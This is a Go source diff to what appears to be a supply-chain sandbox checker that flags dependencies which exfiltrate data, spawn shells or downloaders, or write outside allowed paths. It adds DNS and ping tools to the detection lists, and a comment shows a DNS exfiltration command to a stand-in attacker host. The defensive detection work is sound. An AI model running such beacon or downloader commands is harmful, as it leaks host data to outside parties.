@@ -229,7 +229,11 @@ func (c *checker) checkExfiltration(d *profile.Dependency, phase string, b *prof
 		}
 		var vals, canaries []string
 		for _, e := range b.Exfiltration {
-			vals = append(vals, fmt.Sprintf("%s via %s to %s (%s)", e.Canary, e.Channel, e.Destination, e.Encoding))
+			enc := e.Encoding
+			if e.Partial {
+				enc += ", partial"
+			}
+			vals = append(vals, fmt.Sprintf("%s via %s to %s (%s)", e.Canary, e.Channel, e.Destination, enc))
 			if !slices.Contains(canaries, e.Canary) {
 				canaries = append(canaries, e.Canary)
 			}
@@ -424,7 +428,10 @@ func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
 var (
 	shells      = []string{"sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "csh", "tcsh", "fish", "busybox"}
 	downloaders = []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "ftp", "tftp", "scp", "sftp", "ssh", "telnet", "aria2c"}
-	windows     = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
+	// netTools resolve names or probe hosts: DNS beacons and exfiltration
+	// (nslookup $(hostname).attacker.example).
+	netTools = []string{"nslookup", "dig", "host", "drill", "ping", "ping6", "traceroute"}
+	windows  = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
 	// interpreters maps an interpreter to the flags that run inline code.
 	interpreters = map[string][]string{
 		"node": {"-e", "--eval", "-p", "--print", "-pe"}, "nodejs": {"-e", "--eval", "-p", "--print", "-pe"},
@@ -459,6 +466,8 @@ func suspiciousProcess(p profile.Process) string {
 		return "shell"
 	case slices.Contains(downloaders, prog):
 		return "downloader"
+	case slices.Contains(netTools, prog):
+		return "network tool"
 	case slices.Contains(windows, strings.ToLower(prog)):
 		return "Windows shell"
 	}
@@ -486,7 +495,7 @@ func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile
 			if why == "" || (phase == profile.PhaseInstall && (scriptRunner(p) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
 				continue
 			}
-			vals = append(vals, baseline.JoinArgv(p.Argv))
+			vals = append(vals, processValue(p))
 			if !slices.Contains(kinds, why) {
 				kinds = append(kinds, why)
 			}
@@ -497,6 +506,17 @@ func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile
 		c.add(RuleShellDownloader, 0, d, phase, fmt.Sprintf("%s started a %s in the %s phase: %s", label(d), strings.Join(kinds, "/"), phase, strings.Join(vals, "; ")),
 			Evidence{Event: baseline.KindProcess, Values: vals, Unattributed: un})
 	})
+}
+
+// processValue is a process as evidence: its command line, and the result
+// when the program could not run (a program that does not exist is judged
+// like one that ran).
+func processValue(p profile.Process) string {
+	v := baseline.JoinArgv(p.Argv)
+	if p.Result != "" && p.Result != "ok" {
+		v += " (" + p.Result + ")"
+	}
+	return v
 }
 
 // --- DBX008 install-network, DBX009 install-process -------------------------
@@ -524,7 +544,7 @@ func (c *checker) checkInstall(d *profile.Dependency, phase string, b *profile.B
 		var procs []string
 		for _, p := range b.Processes {
 			if !scriptRunner(p) && !c.accepted(d, phase, baseline.ProcessItem(p, un)) {
-				procs = append(procs, baseline.JoinArgv(p.Argv))
+				procs = append(procs, processValue(p))
 			}
 		}
 		if len(procs) > 0 {
@@ -553,7 +573,11 @@ func netEvent(vals []string) string {
 
 // --- DBX012 write-outside-tmp ------------------------------------------------
 
-var procFdRE = regexp.MustCompile(`^/proc/[0-9]+/fd/`)
+var (
+	procFdRE = regexp.MustCompile(`^/proc/[0-9]+/fd/`)
+	// A thread naming itself (pthread_setname_np) writes its comm file.
+	commRE = regexp.MustCompile(`^/proc/(self|thread-self|PID|[0-9]+)(/task/(TID|[0-9]+))?/comm$`)
+)
 
 // writable reports whether a write to p is expected in a function sandbox.
 func writable(p string) bool {
@@ -567,7 +591,7 @@ func writable(p string) bool {
 			return true
 		}
 	}
-	return procFdRE.MatchString(p)
+	return procFdRE.MatchString(p) || commRE.MatchString(p)
 }
 
 func (c *checker) checkWrites(d *profile.Dependency, phase string, b *profile.Behavior) {
